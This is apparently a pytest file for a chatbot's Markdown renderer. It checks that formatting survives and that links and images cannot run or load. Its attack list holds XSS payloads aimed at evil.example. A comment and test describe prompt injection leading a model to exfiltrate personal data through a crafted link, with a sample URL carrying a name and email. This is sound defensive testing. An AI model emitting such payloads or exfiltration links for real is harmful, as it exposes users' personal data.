"""Model answers are rendered as Markdown and sanitised: formatting survives, nothing runs."""

from __future__ import annotations

import pytest

from kkgpt.web.markdown import MarkdownRenderer
from tests.htmlcheck import active_content

render = MarkdownRenderer().render


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        ("- et\n- to", "<li>et</li>"),
        ("1. et\n2. to", "<ol>"),
        ("| a | b |\n|---|---|\n| 1 | 2 |", "<td>1</td>"),
        ("```python\nprint(1)\n```", '<pre tabindex="0"><code class="language-python">print(1)'),
        ("| a |\n|---|\n| 1 |", '<table tabindex="0">'),
        ("**fed** og *kursiv*", "<strong>fed</strong> og <em>kursiv</em>"),
        ("[KK](https://www.kk.dk)", 'KK <span class="link-address">(https://www.kk.dk)</span>'),
        ("linje et\nlinje to", "linje et<br>"),
    ],
)
def test_formatting_survives(markdown: str, expected: str) -> None:
    assert expected in render(markdown)


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[klik](javascript:alert(1))",
        "[klik](data:text/html;base64,PHNjcmlwdD4=)",
        '<a href="javascript:alert(1)">x</a>',
        "<iframe src=https://evil.example></iframe>",
        "<svg onload=alert(1)>",
        "![x](https://evil.example/track.png)",
    ],
)
def test_nothing_can_run_or_load(attack: str) -> None:
    assert active_content(str(render(attack))) == []


def test_the_checker_itself_sees_active_content() -> None:
    assert active_content('<p><img src=x onerror=alert(1)><a href="javascript:x">y</a></p>') == [
        "<img>", "img[onerror]", "a[href=javascript:x]"]


def test_links_show_their_address_and_cannot_be_clicked() -> None:
    # A model talked into writing a link whose address carries restored personal data (prompt injection)
    # must not get a one-click way to send it away.
    html = str(render("[Åbn journalen](<https://evil.example/c?n=Jens Hansen&m=jens@example.dk>)"))
    assert "<a" not in html and "href" not in html
    assert "Åbn journalen" in html and "https://evil.example/c?n=Jens%20Hansen&amp;m=jens@example.dk" in html
    assert "<a" not in str(render("<https://www.kk.dk> og https://www.kk.dk"))
    assert str(render("![kort](https://evil.example/pixel.png)")).startswith("<p>kort <span")
